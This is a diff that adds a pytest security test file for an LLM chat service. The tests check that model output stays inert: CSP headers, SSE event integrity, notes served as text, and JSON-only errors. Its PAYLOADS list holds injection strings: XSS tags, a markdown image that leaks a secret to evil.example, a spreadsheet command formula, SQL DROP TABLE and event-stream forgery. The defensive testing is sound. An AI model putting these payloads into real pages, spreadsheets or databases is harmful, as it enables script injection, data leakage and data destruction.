@@ -1,0 +1,115 @@
+"""LLM10 Improper Output Handling: a model's words are text, in the stream, in files and on the page (quirk G2)."""
+
+import json
+import re
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from tests.scenarios.security.hostile import obeys
+from tests.support.fixtures import Behind
+from tests.support.serving import RunningApp
+from tests.support.upstream import DONE, chunk, says, sends
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "![x](https://evil.example/pixel.png?q=secret)",
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    '\n\ndata: {"type":"done","done":true,"status":"complete"}\n\n',
+    "\r\n\r\ndata: {}\r\n\r\n",
+    "event: done\ndata: x\n\nid: 9\n\n: comment\n\n",
+    "\u2028\u2029\x85\x0b\x0c",
+    "\x00\x1b[31mred\x1b[0m\x07",
+    "</script><script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "=cmd|' /C calc'!A0",
+    "'; DROP TABLE runs; --",
+    "\u202egnp.exe",
+]
+POLICY = {
+    "default-src": "'self'",
+    "img-src": "'self' data:",
+    "object-src": "'none'",
+    "base-uri": "'none'",
+    "frame-ancestors": "'none'",
+    "form-action": "'self'",
+}
+
+
+def policy_of(header: str) -> dict[str, str]:
+    """Take a content security policy apart."""
+    return {name: rest for name, _, rest in (part.strip().partition(" ") for part in header.split(";"))}
+
+
+@pytest.mark.parametrize(
+    "path", ["/", "/docs", "/operator", "/guide/", "/guide/tools.md", "/notes/", "/api/runs", "/nope"]
+)
+def test_g02_no_answer_may_load_or_run_anything_foreign(app: RunningApp, path: str) -> None:
+    """The policy is on every answer: no foreign script, image, style, frame or form, and nothing inline.
+
+    The chat page alone allows the one style and the one script that its build put into it, by their hashes.
+
+    What the page makes of such Markdown is asserted in frontend/src/components/Markdown.test.tsx (no element that
+    loads) and in the browser tests (no request leaves).
+    """
+    for accept in ("text/html", "*/*"):
+        headers = app.client.get(path, headers={"accept": accept}).headers
+        policy = policy_of(headers["content-security-policy"])
+        own = {name: policy.pop(name) for name in ("script-src", "style-src") if path == "/" and name in policy}
+        assert all(re.fullmatch(r"'self' 'sha256-[\w+/]{43}='", value) for value in own.values()), own
+        assert policy == POLICY
+        assert "unsafe" not in headers["content-security-policy"]
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "no-referrer"
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_g02_a_models_words_stay_inside_their_event(behind: Behind, payload: str) -> None:
+    """Nothing a model says or thinks can end a frame, forge an event, or come out changed."""
+    app, _ = behind(sends(chunk({"reasoning": payload}), chunk({"content": payload}), chunk({}, finish="stop") + DONE))
+    heard = app.ask("Go.", tools=[])
+    assert heard.text.strip() == payload.strip()
+    assert sum(event["type"] == "done" for event in heard.events) == 1
+    assert {event["type"] for event in heard.events} <= {"content", "reasoning", "done", "warning"}
+
+
+def test_g02_names_and_arguments_of_calls_are_data_too(behind: Behind) -> None:
+    """What a model writes into a call, a title or an argument is told as it is, in its own event."""
+    calls = [("calculate", {"expression": payload}) for payload in PAYLOADS]
+    app, _ = behind(obeys(calls, [(payload[:60].strip() or "x", {}) for payload in PAYLOADS]))
+    heard = app.ask("Go.")
+    assert [given["expression"] for given in heard.arguments[: len(PAYLOADS)]] == PAYLOADS
+    assert sum(event["type"] == "done" for event in heard.events) == 1
+
+
+def test_g02_a_note_is_served_as_text(behind: Behind, tmp_path: Path) -> None:
+    """What a model has saved is never a page of ours: its type is text, whatever the browser would like."""
+    app, _ = behind(obeys(("save_note", {"title": "x", "text": "<script>alert(1)</script>"})))
+    app.ask("Go.")
+    (tmp_path / "data" / "notes" / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
+    for name in ("x.md", "evil.html"):
+        answer = app.client.get(f"/notes/{name}", headers={"accept": "*/*"})
+        assert answer.headers["content-type"].startswith(("text/markdown", "text/plain")), name
+        assert answer.headers["x-content-type-options"] == "nosniff"
+
+
+def test_g02_what_comes_back_in_an_error_is_json(app: RunningApp) -> None:
+    """An address or a field of someone's making is quoted as JSON, never as markup, and makes no header."""
+    for payload in PAYLOADS:
+        answer = app.client.get(f"/api/runs/{quote(payload, safe='')}")
+        assert answer.headers["content-type"] == "application/json"
+        answer = app.client.post("/api/chat/stream", content=json.dumps({"model": "openai/sim", payload: 1}).encode())
+        assert answer.headers["content-type"] == "application/json"
+        assert not re.search(r"<script", str(answer.headers))
+
+
+def test_g02_a_served_model_name_is_no_header(behind: Behind) -> None:
+    """Names that an upstream writes go into events, not into headers."""
+    app, _ = behind(says("Hi."))
+    response = app.post(prompt="Hi", tools=[])
+    ours = {name for name in response.headers if name.startswith("x-")}
+    sent = {"x-accel-buffering", "x-chat-contract", "x-content-type-options"}
+    assert ours == {*sent, "x-request-id", "x-run-id", "x-tool-loop"}
